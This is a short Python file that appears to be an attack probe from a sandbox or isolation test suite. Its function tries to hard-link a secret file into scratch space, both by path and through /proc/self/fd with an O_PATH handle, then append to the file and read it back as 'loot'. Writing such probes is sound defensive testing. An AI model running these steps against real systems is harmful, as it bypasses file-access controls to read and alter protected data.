"""Give a secret file a second name in scratch, by path and through /proc's descriptors, and change it there."""

import os
from pathlib import Path


def attack(target):
    loot = []
    try:
        os.link(target["secret_file"], "hard")
        with open("hard", "a") as file:
            file.write("changed")
        loot.append(Path("hard").read_text())
    except OSError:
        pass
    try:
        handle = os.open(target["secret_file"], os.O_PATH)
        os.link(f"/proc/self/fd/{handle}", "hard-too", follow_symlinks=True)
        loot.append(Path("hard-too").read_text())
    except OSError:
        pass
    return loot
